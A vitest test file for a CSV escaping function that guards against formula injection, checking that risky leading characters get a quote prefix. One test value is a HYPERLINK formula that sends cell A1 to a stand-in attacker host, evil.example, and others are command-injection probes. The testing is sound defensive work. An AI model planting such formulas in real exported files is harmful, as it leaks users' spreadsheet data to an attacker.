import { describe, expect, it } from 'vitest';
import { csvText } from '../src/csv.js';

describe('csvText (issue 17: CSV formula injection)', () => {
  it.each([
    ['a formula', '=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['a leading plus', '+1+cmd', "'+1+cmd"],
    ['a leading minus', '-1+cmd', "'-1+cmd"],
    ['a leading at sign', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['a leading tab', '\t=1+1', "'\t=1+1"],
    ['a leading carriage return', '\r=1+1', `"'\r=1+1"`],
    ['a full-width equals sign', '＝1+1', "'＝1+1"],
  ])('prefixes %s with a quote, so a spreadsheet shows it as text', (_case, cell, written) => {
    expect(csvText([[cell, 'x']])).toBe(`${written},x\n`);
  });

  it.each([['Lazarus Group'], ["O'Brien"], ['0.9194'], ['Kim Jong-un'], ['a=b'], ['']])('leaves %j as it is', (cell) => {
    expect(csvText([[cell]])).toBe(`${cell}\n`);
  });
});
